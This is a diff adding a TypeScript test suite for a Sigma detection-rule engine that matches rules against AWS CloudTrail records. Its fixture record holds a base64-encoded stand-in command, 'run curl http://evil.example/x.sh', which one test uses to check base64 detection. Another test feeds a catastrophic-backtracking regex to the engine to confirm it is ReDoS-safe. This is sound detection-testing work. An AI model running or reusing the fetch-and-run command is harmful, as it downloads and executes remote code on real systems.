@@ -1,0 +1,271 @@
+import * as assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { parseCloudTrail } from '../../server/src/model';
+import { MAX_VALUE_CHARS, RuleSet } from '../../server/src/model/detections';
+import { findingsOf, loadRules, logOf, matches, ruleText } from './sigmaHelpers';
+
+const record = {
+  eventVersion: '1.08',
+  eventTime: '2024-05-01T10:00:00Z',
+  eventSource: 'iam.amazonaws.com',
+  eventName: 'CreateAccessKey',
+  awsRegion: 'us-east-1',
+  sourceIPAddress: '203.0.113.7',
+  userAgent: 'aws-cli/2.15.0 Python/3.11',
+  readOnly: false,
+  responseCode: 200,
+  userIdentity: {
+    type: 'IAMUser',
+    arn: 'arn:aws:iam::111122223333:user/alice',
+    userName: 'alice',
+    sessionContext: { attributes: { mfaAuthenticated: 'false' } },
+  },
+  requestParameters: { userName: 'bob', tags: [{ key: 'team', value: 'red' }, { key: 'env', value: 'prod' }] },
+  resources: [{ ARN: 'arn:aws:iam::111122223333:user/bob' }, { ARN: 'arn:aws:s3:::bucket' }],
+  additionalEventData: { encoded: Buffer.from('run curl http://evil.example/x.sh').toString('base64') },
+};
+
+describe('sigma: fields, lists and case', () => {
+  it('a map of fields is an and, a list of values an or', () => {
+    assert.equal(matches('    sel:\n        eventSource: iam.amazonaws.com\n        eventName: CreateAccessKey\n    condition: sel', record), true);
+    assert.equal(matches('    sel:\n        eventSource: iam.amazonaws.com\n        eventName: DeleteUser\n    condition: sel', record), false);
+    assert.equal(matches('    sel:\n        eventName:\n            - DeleteUser\n            - CreateAccessKey\n    condition: sel', record), true);
+  });
+
+  it('a list of maps is an or of ands', () => {
+    const detection = '    sel:\n        - eventName: DeleteUser\n        - eventName: CreateAccessKey\n          awsRegion: us-east-1\n    condition: sel';
+    assert.equal(matches(detection, record), true);
+    assert.equal(matches(detection, { ...record, awsRegion: 'eu-west-1' }), false);
+  });
+
+  it('plain values match whole values without case; cased keeps case', () => {
+    assert.equal(matches('    sel:\n        eventName: createaccesskey\n    condition: sel', record), true);
+    assert.equal(matches('    sel:\n        eventName: CreateAccess\n    condition: sel', record), false);
+    assert.equal(matches('    sel:\n        eventName|cased: createaccesskey\n    condition: sel', record), false);
+    assert.equal(matches('    sel:\n        eventName|cased: CreateAccessKey\n    condition: sel', record), true);
+  });
+
+  it('wildcards * and ?, and their escapes', () => {
+    assert.equal(matches("    sel:\n        eventName: 'Create*Key'\n    condition: sel", record), true);
+    assert.equal(matches("    sel:\n        eventName: 'Create?ccessKey'\n    condition: sel", record), true);
+    assert.equal(matches("    sel:\n        eventName: 'Create??ccessKey'\n    condition: sel", record), false);
+    assert.equal(matches("    sel:\n        userAgent: 'aws-cli/*'\n    condition: sel", record), true);
+    assert.equal(matches("    sel:\n        eventName: 'Create\\*'\n    condition: sel", record), false);
+    assert.equal(matches("    sel:\n        eventName: 'Create\\*'\n    condition: sel", { ...record, eventName: 'Create*' }), true);
+    assert.equal(matches("    sel:\n        eventName: 'a\\?b'\n    condition: sel", { ...record, eventName: 'a?b' }), true);
+    assert.equal(matches("    sel:\n        eventName: 'a\\?b'\n    condition: sel", { ...record, eventName: 'axb' }), false);
+    assert.equal(matches("    sel:\n        eventName: 'a\\\\b'\n    condition: sel", { ...record, eventName: 'a\\b' }), true);
+    assert.equal(matches("    sel:\n        eventName: 'a\\b'\n    condition: sel", { ...record, eventName: 'a\\b' }), true);
+  });
+
+  it('dotted paths, and any element of an array on the path', () => {
+    assert.equal(matches('    sel:\n        userIdentity.sessionContext.attributes.mfaAuthenticated: "false"\n    condition: sel', record), true);
+    assert.equal(matches('    sel:\n        requestParameters.tags.key: env\n    condition: sel', record), true);
+    assert.equal(matches('    sel:\n        requestParameters.tags.key: owner\n    condition: sel', record), false);
+    assert.equal(matches("    sel:\n        resources.ARN|startswith: 'arn:aws:s3'\n    condition: sel", record), true);
+  });
+
+  it('objects and arrays compare as compact JSON; numbers and booleans by JSON text', () => {
+    assert.equal(matches(`    sel:\n        requestParameters.tags|contains: '{"key":"env","value":"prod"}'\n    condition: sel`, record), true);
+    assert.equal(matches(`    sel:\n        userIdentity.sessionContext: '{"attributes":{"mfaAuthenticated":"false"}}'\n    condition: sel`, record), true);
+    assert.equal(matches('    sel:\n        readOnly: false\n    condition: sel', record), true);
+    assert.equal(matches("    sel:\n        readOnly: 'false'\n    condition: sel", record), true);
+    assert.equal(matches('    sel:\n        readOnly: true\n    condition: sel', record), false);
+    assert.equal(matches('    sel:\n        responseCode: 200\n    condition: sel', record), true);
+    assert.equal(matches("    sel:\n        responseCode: '2*'\n    condition: sel", record), true);
+  });
+
+  it('null matches a missing or null field', () => {
+    assert.equal(matches('    sel:\n        errorCode: null\n    condition: sel', record), true);
+    assert.equal(matches('    sel:\n        errorCode: null\n    condition: sel', { ...record, errorCode: null }), true);
+    assert.equal(matches('    sel:\n        errorCode: null\n    condition: sel', { ...record, errorCode: 'AccessDenied' }), false);
+    assert.equal(matches("    sel:\n        errorCode: ''\n    condition: sel", record), false);
+    assert.equal(matches("    sel:\n        errorCode: ''\n    condition: sel", { ...record, errorCode: '' }), true);
+  });
+
+  it('keyword lists search every value of the record', () => {
+    assert.equal(matches('    keywords:\n        - alice\n    condition: keywords', record), true);
+    assert.equal(matches("    keywords:\n        - 'iam::111122223333:user/b'\n    condition: keywords", record), true);
+    assert.equal(matches('    keywords:\n        - mallory\n    condition: keywords', record), false);
+  });
+});
+
+describe('sigma: modifiers', () => {
+  const m = (key: string, value: string): string => `    sel:\n        ${key}: ${value}\n    condition: sel`;
+
+  it('contains, startswith, endswith, all', () => {
+    assert.equal(matches(m('userAgent|contains', 'python'), record), true);
+    assert.equal(matches(m('userAgent|startswith', 'AWS-CLI'), record), true);
+    assert.equal(matches(m('userAgent|startswith', 'python'), record), false);
+    assert.equal(matches(m('userAgent|endswith', "'3.11'"), record), true);
+    assert.equal(matches(m('userAgent|contains|all', '[aws-cli, python]'), record), true);
+    assert.equal(matches(m('userAgent|contains|all', '[aws-cli, boto3]'), record), false);
+    assert.equal(matches(m('userAgent|contains', '[boto3, python]'), record), true);
+  });
+
+  it('re, with i, m and s; case-sensitive without i', () => {
+    assert.equal(matches(m('userIdentity.arn|re', "'^arn:aws:iam::\\d{12}:user/'"), record), true);
+    assert.equal(matches(m('userIdentity.arn|re', "'USER/ALICE$'"), record), false);
+    assert.equal(matches(m('userIdentity.arn|re|i', "'USER/ALICE$'"), record), true);
+    assert.equal(matches(m('userAgent|re|s', "'cli.*Python'"), { ...record, userAgent: 'aws-cli\nPython' }), true);
+    assert.equal(matches(m('userAgent|re', "'cli.*Python'"), { ...record, userAgent: 'aws-cli\nPython' }), false);
+    assert.equal(matches(m('userAgent|re|m', "'^Python'"), { ...record, userAgent: 'aws-cli\nPython' }), true);
+    assert.equal(matches(m('userAgent|re', "'^Python'"), { ...record, userAgent: 'aws-cli\nPython' }), false);
+  });
+
+  it('a pathological regular expression runs in linear time on a long hostile value', () => {
+    const hostile = { ...record, userAgent: `${'a'.repeat(100_000)}!` };
+    const started = process.hrtime.bigint();
+    assert.equal(matches(m('userAgent|re', "'^(a+)+$'"), hostile), false);
+    // Backtracking engines take minutes here; this only guards against going back to one.
+    assert.ok(Number(process.hrtime.bigint() - started) / 1e9 < 10);
+  });
+
+  it('cidr, IPv4 and IPv6', () => {
+    assert.equal(matches(m('sourceIPAddress|cidr', "'203.0.113.0/24'"), record), true);
+    assert.equal(matches(m('sourceIPAddress|cidr', "'10.0.0.0/8'"), record), false);
+    assert.equal(matches(m('sourceIPAddress|cidr', "'2001:db8::/32'"), { ...record, sourceIPAddress: '2001:db8:1::5' }), true);
+    assert.equal(matches(m('sourceIPAddress|cidr', "'2001:db8::/32'"), { ...record, sourceIPAddress: 'AWS Internal' }), false);
+  });
+
+  it('exists', () => {
+    assert.equal(matches(m('requestParameters.userName|exists', 'true'), record), true);
+    assert.equal(matches(m('errorCode|exists', 'true'), record), false);
+    assert.equal(matches(m('errorCode|exists', 'false'), record), true);
+  });
+
+  it('fieldref compares two fields of the record', () => {
+    assert.equal(matches(m('userIdentity.userName|fieldref', 'requestParameters.userName'), record), false);
+    assert.equal(matches(m('userIdentity.userName|fieldref', 'requestParameters.userName'), { ...record, requestParameters: { userName: 'ALICE' } }), true);
+    assert.equal(matches(m('userIdentity.arn|fieldref|endswith', 'userIdentity.userName'), record), true);
+  });
+
+  it('lt, lte, gt, gte compare numbers', () => {
+    assert.equal(matches(m('responseCode|gte', '200'), record), true);
+    assert.equal(matches(m('responseCode|gt', '200'), record), false);
+    assert.equal(matches(m('responseCode|lt', '300'), record), true);
+    assert.equal(matches(m('responseCode|lte', '199'), record), false);
+    assert.equal(matches(m('eventName|lt', '5'), record), false);
+  });
+
+  it('base64 and base64offset', () => {
+    const encoded = Buffer.from('hello').toString('base64');
+    assert.equal(matches(m('additionalEventData.encoded|base64', 'hello'), { ...record, additionalEventData: { encoded } }), true);
+    assert.equal(matches(m('additionalEventData.encoded|base64offset|contains', "'http://evil.example'"), record), true);
+    assert.equal(matches(m('additionalEventData.encoded|base64offset|contains', "'http://good.example'"), record), false);
+  });
+});
+
+describe('sigma: conditions', () => {
+  const detection = (condition: string): string =>
+    `    sel_iam:\n        eventSource: iam.amazonaws.com\n    sel_key:\n        eventName: CreateAccessKey\n    filter_alice:\n        userIdentity.userName: alice\n    condition: ${condition}`;
+
+  it('and, or, not, parentheses, and precedence', () => {
+    assert.equal(matches(detection('sel_iam and sel_key'), record), true);
+    assert.equal(matches(detection('sel_iam and not filter_alice'), record), false);
+    assert.equal(matches(detection('sel_iam and not (filter_alice or sel_key)'), record), false);
+    assert.equal(matches(detection('not sel_iam or sel_key'), record), true);
+    assert.equal(matches(detection('not (sel_iam or sel_key)'), record), false);
+    assert.equal(matches(detection('filter_alice and not sel_key or sel_iam'), record), true);
+  });
+
+  it('1 of, all of, them', () => {
+    assert.equal(matches(detection('all of sel_*'), record), true);
+    assert.equal(matches(detection('1 of filter*'), record), true);
+    assert.equal(matches(detection('all of them'), record), true);
+    assert.equal(matches(detection('1 of them and not 1 of filter_*'), record), false);
+    assert.equal(matches(detection('all of them'), { ...record, userIdentity: { userName: 'bob' } }), false);
+    assert.equal(matches(detection('1 of them'), { ...record, eventSource: 'x', eventName: 'y', userIdentity: {} }), false);
+  });
+
+  it('several conditions are alternatives', () => {
+    const text = `    a:\n        eventName: DeleteUser\n    b:\n        eventName: CreateAccessKey\n    condition:\n        - a\n        - b`;
+    assert.equal(matches(text, record), true);
+  });
+});
+
+describe('sigma: rule files', () => {
+  it('reads the metadata, with ATT&CK tags', () => {
+    const rules = loadRules(ruleText('    sel:\n        eventName: X\n    condition: sel', 'description: what it is\nfalsepositives:\n    - admins\nreferences:\n    - https://example.com\n'));
+    const metadata = rules.rules[0].metadata;
+    assert.equal(metadata.title, 'Test rule');
+    assert.equal(metadata.level, 'high');
+    assert.equal(metadata.author, 'Test Author');
+    assert.deepEqual(metadata.attackTechniques, ['T1098']);
+    assert.deepEqual(metadata.attackTactics, ['persistence']);
+    assert.deepEqual(metadata.falsepositives, ['admins']);
+    assert.deepEqual(metadata.references, ['https://example.com']);
+    assert.equal(metadata.file, 'rule0.yml');
+    assert.deepEqual(rules.rules[0].detection?.condition, { kind: 'selection', name: 'sel' });
+  });
+
+  it('reports an unknown modifier at its key, and keeps the other rules', () => {
+    const bad = ruleText('    sel:\n        eventName|containz: X\n    condition: sel');
+    const good = ruleText('    sel:\n        eventName: CreateAccessKey\n    condition: sel').replace('00000000-0000-4000-8000-000000000001', 'other-id');
+    const rules = loadRules(bad, good);
+    const problems = rules.files[0].problems;
+    assert.equal(problems.length, 1);
+    assert.equal(problems[0].code, 'sigma-unknown-modifier');
+    assert.equal(bad.slice(problems[0].span.start, problems[0].span.end), 'eventName|containz');
+    assert.equal(rules.rules.length, 1);
+    assert.equal(findingsOf(rules, record).length, 1);
+  });
+
+  it('reports an undefined identifier in the condition where it is written', () => {
+    const text = ruleText('    sel:\n        eventName: X\n    condition: sel and not filter');
+    const problems = loadRules(text).files[0].problems;
+    assert.equal(problems[0].code, 'sigma-undefined-identifier');
+    assert.equal(text.slice(problems[0].span.start, problems[0].span.end), 'filter');
+  });
+
+  it('reports a regular expression that cannot be compiled at its value', () => {
+    const text = ruleText("    sel:\n        userAgent|re: 'a(b'\n    condition: sel");
+    const problems = loadRules(text).files[0].problems;
+    assert.equal(problems[0].code, 'sigma-bad-regex');
+    assert.equal(text.slice(problems[0].span.start, problems[0].span.end), "'a(b'");
+  });
+
+  it('reports broken YAML without stopping other files', () => {
+    const rules = loadRules('title: [unclosed\n', ruleText('    sel:\n        eventName: CreateAccessKey\n    condition: sel'));
+    assert.equal(rules.files[0].problems[0].code, 'sigma-yaml');
+    assert.equal(rules.rules.length, 1);
+  });
+
+  it('warns about events the catalog does not know', () => {
+    const text = ruleText('    sel:\n        eventSource: iam.amazonaws.com\n        eventName: PassRole\n    condition: sel');
+    const rules = RuleSet.load([{ path: 'r.yml', text, origin: 'user' }], {
+      catalog: { eventExists: (_source, name) => name !== 'PassRole', sourceExists: () => true },
+    });
+    const warning = rules.files[0].problems.find((problem) => problem.code === 'sigma-unknown-event');
+    assert.ok(warning);
+    assert.equal(warning.severity, 'warning');
+    assert.equal(text.slice(warning.span.start, warning.span.end), 'eventName');
+    assert.equal(rules.rules.length, 1, 'the rule still runs');
+  });
+});
+
+describe('sigma: bounded reading', () => {
+  it('a value longer than the bound is read as its first part, and whole-value matches do not pretend', () => {
+    const long = 'x'.repeat(MAX_VALUE_CHARS + 10);
+    assert.equal(matches("    sel:\n        userAgent|startswith: 'xxx'\n    condition: sel", { ...record, userAgent: long }), true);
+    assert.equal(matches("    sel:\n        userAgent|endswith: 'xxx'\n    condition: sel", { ...record, userAgent: long }), false);
+  });
+});
+
+describe('sigma: the index of rules by event', () => {
+  it('tests a record only against rules whose eventName or eventSource can match it', () => {
+    const rules = loadRules(
+      ruleText('    sel:\n        eventName: CreateAccessKey\n    condition: sel'),
+      ruleText('    sel:\n        eventSource: s3.amazonaws.com\n    condition: sel').replace('000000000001', '000000000002'),
+    );
+    const model = parseCloudTrail(logOf(record, { ...record, eventSource: 's3.amazonaws.com', eventName: 'GetObject' }));
+    const findings = rules.detectDocument(model);
+    assert.deepEqual(
+      findings.map((finding) => [finding.record, finding.rule]),
+      [
+        [0, 0],
+        [1, 1],
+      ],
+    );
+  });
+});
